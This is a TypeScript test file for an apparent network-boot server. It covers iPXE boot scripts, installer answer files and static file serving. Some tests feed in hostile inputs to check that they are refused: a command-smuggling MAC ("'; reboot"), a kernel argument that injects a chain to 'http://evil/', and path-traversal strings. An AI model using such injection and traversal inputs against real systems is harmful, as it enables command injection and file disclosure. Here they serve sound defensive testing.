import { execFile } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { mkdir, symlink, writeFile } from 'node:fs/promises';
import { request as httpRequest } from 'node:http';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterEach, describe, expect, it } from 'vitest';
import { FileDocument, FileJournal } from '@rackwright/adapter-file-journal';
import { LiquidTemplates } from '@rackwright/adapter-liquid-templates';
import { MemoryStore } from '@rackwright/adapter-memory-store';
import { NodeDatagramSockets } from '@rackwright/adapter-udp-socket';
import { formatInstant, parseMac, parseSn, silentLogger, type EpochMs, type Mac } from '@rackwright/kernel';
import { systemClock } from '@rackwright/platform';
import { task } from '../answer-files/answer-file-fixture.js';
import { dc1, runBootPlane, type RunningPlane } from './boot-plane-fixture.js';

const closing: AsyncDisposable[] = [];
afterEach(async () => {
  for (const each of closing.splice(0).reverse()) await each[Symbol.asyncDispose]();
});

async function run(): Promise<RunningPlane> {
  const running = await runBootPlane(
    {
      sockets: new NodeDatagramSockets(),
      // With so much time that a machine that stands still meanwhile changes nothing.
      templates: new LiquidTemplates({ maxRenderMs: 600_000 }),
      store: new MemoryStore({ clock: systemClock }),
      openLog: (directory) => FileJournal.open({ directory, logger: silentLogger }),
      document: (path) => new FileDocument(path),
    },
    { env: { RW_DHCP_MODE: 'off', RW_TFTP_ENABLED: 'false' } },
  );
  closing.push(running);
  return running;
}

const call = promisify(execFile);
const MAC = task().mac;
const TOKEN = task().boot.token;
const at = formatInstant(1_700_000_000_000 as EpochMs);
const machine = (mac: Mac, status: 'discovered' | 'installed') =>
  ({ mac, idc: dc1, status, dns: [], created_at: at, updated_at: at }) as const;
const codeOf = async (response: Response) => ((await response.json()) as { readonly code: string }).code;

/** Sends a path as it is: `fetch` would tidy it up. */
function rawStatus(url: string, path: string): Promise<number> {
  const { hostname, port } = new URL(url);
  return new Promise((resolve, reject) => {
    httpRequest({ hostname, port, path }, (response) => {
      response.resume();
      resolve(response.statusCode ?? 0);
    })
      .on('error', reject)
      .end();
  });
}

describe('boot scripts', () => {
  it('H8 H9: an unknown machine waits, by its MAC in any spelling', async () => {
    const { http, region } = await run();
    const scripts = await Promise.all(
      ['001a2b3c4d5e', '00:1a:2b:3c:4d:5e', '00-1A-2B-3C-4D-5E', '001a.2b3c.4d5e', '00%3a1a%3A2b:3c:4d:5e'].map(
        async (mac) => {
          const response = await fetch(`${http.url}/boot/${mac}/boot.ipxe?arch=x86_64`);
          expect([response.status, response.headers.get('content-type')]).toEqual([200, 'text/plain; charset=utf-8']);
          return response.text();
        },
      ),
    );
    expect(new Set(scripts).size).toBe(1);
    expect(scripts[0]).toMatch(/^#!ipxe\n/);
    expect(scripts[0]).not.toContain('\r');
    expect(scripts[0]).toContain(`chain --replace --autofree ${http.url}/boot/${MAC}/boot.ipxe?uuid=\${uuid}`);
    expect(scripts[0]).toContain('sleep 10\n');
    expect(region.sightings[0]).toEqual({ mac: MAC, arch: 'x86_64' });
  });

  it.each(['zz', '00:1a:2b:3c:4d', 'ff:ff:ff:ff:ff:ff', '..%2f..', '%00', "'; reboot"])(
    'refuses the MAC %j',
    async (mac) => {
      const { http } = await run();
      const response = await fetch(`${http.url}/boot/${encodeURI(mac)}/boot.ipxe`);
      expect([response.status, response.headers.get('content-type')]).toEqual([
        404,
        'application/problem+json; charset=utf-8',
      ]);
    },
  );

  it('an approved machine gets its install script, with quoted arguments, once it is counted', async () => {
    const { http, region } = await run();
    region.put(task());
    const head = await fetch(`${http.url}/boot/${MAC}/boot.ipxe`, { method: 'HEAD' });
    expect(head.status).toBe(200);
    expect(region.reports).toEqual([]);
    const script = await (await fetch(`${http.url}/${MAC}/auto.ipxe`)).text();
    expect(script).toContain(
      `kernel ${http.url}/static/debian/12/amd64/linux initrd=initrd0.img auto=true priority=critical`,
    );
    expect(script).toContain(`url=${http.url}/preseed/${MAC}/preseed.cfg?token=${TOKEN}`);
    expect(script).toContain('BOOTIF=01-00-1a-2b-3c-4d-5e');
    expect(script).toContain(`initrd --name initrd0.img ${http.url}/static/debian/12/amd64/initrd.gz`);
    expect(script).toContain('console=ttyS0,115200n8');
    expect(region.reports).toMatchObject([{ kind: 'script-served', taskId: 'task-0a1b2c3d' }]);
    expect(region.tasks.get(task().sn)?.boot.boots).toBe(1);
  });

  it.each([
    ['ubuntu-24.04', `ds=nocloud-net;s=URL/autoinstall/${MAC}/${TOKEN}/`],
    ['rocky-9', `inst.ks=URL/kickstart/sn-001?token=${TOKEN}`],
    ['image', `rw.agent rw.url=URL rw.task=task-0a1b2c3d rw.token=${TOKEN} rw.sn=sn-001`],
  ])('the kernel of %s finds what it needs', async (profile, expected) => {
    const { http, region } = await run();
    region.put(task({ profile }));
    const script = await (await fetch(`${http.url}/boot/${MAC}/boot.ipxe`)).text();
    expect(script).toContain(expected.replaceAll('URL', http.url));
  });

  it('boots from the disk once the installer took over, and what is not approved never installs', async () => {
    const { http, region } = await run();
    const script = async () => (await fetch(`${http.url}/boot/${MAC}/boot.ipxe`)).text();
    region.put(task({ status: 'pending' }));
    expect(await script()).toContain('waits for a task');
    region.put(task({ status: 'installing', boot: { ...task().boot, consumed_at: at } }));
    expect(await script()).toContain('sanboot --no-describe --drive 0x80');
    expect(await script()).toContain('iseq ${platform} efi || goto bios\nexit 1\n');
    region.put(task({ status: 'completed' }));
    expect(await script()).toContain('booting from the local disk');
    expect(new Set(region.reports.map(({ kind }) => kind))).toEqual(new Set(['disk-boot-served']));
  });

  it('honours an override once and a reservation that forbids booting', async () => {
    const { http, region } = await run();
    region.nodesByMac.set(MAC, { ...machine(MAC, 'installed'), boot_override: 'rescue' });
    const rescue = await (await fetch(`${http.url}/boot/${MAC}/boot.ipxe`)).text();
    expect(rescue).toContain('rw.rescue');
    expect(region.usedOverrides).toEqual([MAC]);
    region.reserve({ mac: MAC, allow_netboot: false });
    region.put(task());
    expect(await (await fetch(`${http.url}/boot/${MAC}/boot.ipxe`)).text()).toContain('local disk');
  });

  it('ends a boot loop: the eleventh install script is not an install script', async () => {
    const { http, region } = await run();
    region.put(task({ boot: { ...task().boot, boots: 10 } }));
    expect(await (await fetch(`${http.url}/boot/${MAC}/boot.ipxe`)).text()).toContain('local disk');
    expect(region.tasks.get(task().sn)).toMatchObject({ status: 'failed' });
  });

  it('H9: a hostile value adds no line to a script', async () => {
    const { http, region } = await run();
    region.put(task({ kernel_args: 'quiet\nchain http://evil/' }));
    const response = await fetch(`${http.url}/boot/${MAC}/boot.ipxe`);
    expect(response.status).toBe(503);
    expect(await response.text()).not.toContain('evil');
  });

  it('a machine without its MAC in the request introduces itself', async () => {
    const { http } = await run();
    expect(await (await fetch(`${http.url}/auto.ipxe`)).text()).toContain('/boot/${netX/mac:hexhyp}/boot.ipxe');
  });
});

describe('answer files', () => {
  it('a valid token gets the file, moves the task to installing and uses up the boot', async () => {
    const { http, region } = await run();
    region.put(task());
    const response = await fetch(`${http.url}/preseed/${MAC}/preseed.cfg?token=${TOKEN}`);
    expect(response.status).toBe(200);
    expect(await response.text()).toContain('d-i netcfg/get_hostname string node-001');
    const installing = region.tasks.get(task().sn);
    expect(installing).toMatchObject({ status: 'installing' });
    expect(installing?.boot.consumed_at).toBeDefined();
    expect(
      (await fetch(`${http.url}/api/v1/preseed/sn-001`, { headers: { authorization: `Bearer ${TOKEN}` } })).status,
    ).toBe(200);
  });

  it('takes addresses from the query, and names one that is none', async () => {
    const { http, region } = await run();
    region.put(task());
    const url = `${http.url}/preseed/${MAC}/preseed.cfg?token=${TOKEN}&ip=10.77.0.9&dns=10.77.0.53,10.77.0.54`;
    const text = await (await fetch(url)).text();
    expect(text).toContain('d-i netcfg/get_ipaddress string 10.77.0.9\nd-i netcfg/get_netmask string 255.255.0.0');
    expect(text).toContain('d-i netcfg/get_nameservers string 10.77.0.53 10.77.0.54');
    const bad = await fetch(`${url}&netmask=x%0Ay`);
    expect([bad.status, await codeOf(bad)]).toEqual([400, 'invalid-request']);
  });

  it('serves cloud-init below a URL that holds the token, and only user-data starts the installer', async () => {
    const { http, region } = await run();
    region.put(task({ profile: 'ubuntu-24.04' }));
    const base = `${http.url}/autoinstall/${MAC}/${TOKEN}`;
    for (const file of ['meta-data', 'vendor-data']) expect((await fetch(`${base}/${file}`)).status).toBe(200);
    expect(region.reports).toEqual([]);
    expect(await (await fetch(`${base}/user-data`)).text()).toMatch(/^#cloud-config\n/);
    expect(region.reports).toMatchObject([{ kind: 'installer-started' }]);
  });

  it('H10: without its token nothing tells an unknown machine from a known one', async () => {
    const { http, region, metrics } = await run();
    region.put(task());
    const paths = [
      `/preseed/${MAC}/preseed.cfg`,
      `/preseed/${MAC}/preseed.cfg?token=wrong`,
      `/preseed/020000000099/preseed.cfg?token=${TOKEN}`,
      '/preseed/hostile%0A/preseed.cfg',
      '/kickstart/sn-001',
      '/kickstart/..%2f..%2fetc',
      `/autoinstall/${MAC}/user-data`,
    ];
    const answers = await Promise.all(
      paths.map(async (path) => {
        const response = await fetch(`${http.url}${path}`);
        const { code, detail, title } = (await response.json()) as Record<string, unknown>;
        return { status: response.status, code, detail, title };
      }),
    );
    expect(new Set(answers.map((each) => JSON.stringify(each))).size).toBe(1);
    expect(answers[0]).toMatchObject({ status: 404, code: 'not-found' });
    expect(region.reports).toEqual([]);
    const text = await metrics.render();
    expect(text).toContain('rw_answer_files_total{file="preseed",outcome="token-missing"} 1');
    expect(text).toContain('rw_answer_files_total{file="preseed",outcome="task-unknown"} 2');
  });

  it('is postponed for who has a token that may be newer than the view, until etcd was read', async () => {
    const { http, region, metrics } = await run();
    region.isConfirmed = false;
    const path = `/preseed/${MAC}/preseed.cfg`;
    const early = await fetch(`${http.url}${path}?token=${TOKEN}`);
    expect([early.status, early.headers.get('retry-after')]).toEqual([503, '5']);
    expect((await fetch(`${http.url}${path}`)).status).toBe(404);
    region.put(task());
    const wrong = await fetch(`${http.url}${path}?token=wrong`);
    expect([wrong.status, (await fetch(`${http.url}${path}`)).status]).toEqual([503, 404]);
    expect((await fetch(`${http.url}${path}?token=${TOKEN}`)).status).toBe(200);
    expect(await metrics.render()).toContain('rw_answer_files_total{file="preseed",outcome="view-unconfirmed"} 2');
  });

  it('shows what a task would render, with the token masked and nothing applied', async () => {
    const { plane, region } = await run();
    region.put(task());
    const sn = parseSn('sn-001');
    const files = (sn === undefined ? undefined : await plane.render(sn)) ?? [];
    expect(files.map(({ path }) => path)).toEqual([`/boot/${MAC}/boot.ipxe`, `/preseed/${MAC}/preseed.cfg`]);
    expect(JSON.stringify(files)).not.toContain(TOKEN);
    expect(files[1]?.content).toContain('Bearer ********');
    expect(region.reports).toEqual([]);
  });
});

describe('files', () => {
  it('H1 H2 H3: HEAD and GET agree, with length, type and ETag', async () => {
    const { http, assetDir } = await run();
    await writeFile(join(assetDir, 'ipxe.efi'), 'x'.repeat(5_000));
    for (const path of ['/ipxe/ipxe.efi', `/ipxe/${MAC}/ipxe.efi`]) {
      const [head, get] = [await fetch(`${http.url}${path}`, { method: 'HEAD' }), await fetch(`${http.url}${path}`)];
      for (const name of ['content-length', 'content-type', 'etag', 'last-modified', 'accept-ranges']) {
        expect([name, head.headers.get(name)]).toEqual([name, get.headers.get(name)]);
      }
      expect(get.headers.get('content-length')).toBe('5000');
      expect(get.headers.get('content-type')).toBe('application/efi');
      expect(get.headers.get('transfer-encoding')).toBeNull();
      expect(await head.text()).toBe('');
      const etag = `If-None-Match: ${get.headers.get('etag') ?? ''}`;
      const same = await call('curl', [
        '-sS',
        '-o',
        '/dev/null',
        '-w',
        '%{http_code}',
        '-H',
        etag,
        `${http.url}${path}`,
      ]);
      expect(same.stdout).toBe('304');
    }
  });

  it('H4: curl fetches ranges that add up to the file', async () => {
    const { http, assetDir } = await run();
    await mkdir(join(assetDir, 'static/deep'), { recursive: true });
    const bytes = randomBytes(3 * 1024 * 1024);
    await writeFile(join(assetDir, 'static/deep/kernel image'), bytes);
    const url = `${http.url}/static/deep/kernel%20image`;
    const range = async (text: string) => {
      const { stdout } = await call('curl', ['-sS', '-r', text, url], { encoding: 'buffer', maxBuffer: 8_388_608 });
      return stdout;
    };
    const parts = [await range('0-999999'), await range('1000000-1999999'), await range('2000000-')];
    expect(Buffer.concat(parts).equals(bytes)).toBe(true);
    expect((await range('-7')).equals(bytes.subarray(-7))).toBe(true);
    const beyond = await fetch(url, { headers: { range: 'bytes=9999999-' } });
    expect([beyond.status, beyond.headers.get('content-range')]).toEqual([416, `bytes */${bytes.length}`]);
    const stale = await fetch(url, { headers: { range: 'bytes=0-9', 'if-range': '"other"' } });
    expect([stale.status, (await stale.arrayBuffer()).byteLength]).toEqual([200, bytes.length]);
    const { stdout } = await call('curl', [
      '-sS',
      '--http1.0',
      '-o',
      '/dev/null',
      '-w',
      '%{http_code} %{size_download}',
      url,
    ]);
    expect(stdout).toBe(`200 ${bytes.length}`);
  });

  it('gives out nothing outside of its folders, and no listing', async () => {
    const { http, assetDir, stateDir } = await run();
    await mkdir(join(assetDir, 'static'));
    await writeFile(join(stateDir, 'secret'), 'secret');
    await writeFile(join(assetDir, 'static/index.html'), 'index');
    await symlink(join(stateDir, 'secret'), join(assetDir, 'static/link'));
    const paths = [
      '/static/link',
      '/static/../secret',
      '/static/..%2f..%2fsecret',
      '/static/%2e%2e/%2e%2e/secret',
      '/static/..%5c..%5csecret',
      '/static/%00',
      '/static/',
      '/static/.',
      `/static/${encodeURIComponent(join(stateDir, 'secret'))}`,
      '/ipxe/..%2fsecret',
      '/ipxe/not-a-mac/ipxe.efi',
      '/ipxe/static',
      '/repos/anything',
    ];
    for (const path of paths) expect([path, await rawStatus(http.url, path)]).toEqual([path, 404]);
    expect(await rawStatus(http.url, '/static/index.html')).toBe(200);
  });

  it('lists its files by kind', async () => {
    const { plane, assetDir } = await run();
    await mkdir(join(assetDir, 'static/a'), { recursive: true });
    await writeFile(join(assetDir, 'ipxe.efi'), '');
    await writeFile(join(assetDir, 'static/a/linux'), '');
    expect(await plane.files('tftp')).toEqual([{ name: 'ipxe.efi' }]);
    expect(await plane.files('static')).toEqual([{ name: 'a/linux' }]);
    expect(await plane.files('repos')).toEqual([]);
    expect(parseMac('00:1a:2b:3c:4d:5e')).toBe(MAC);
  });
});
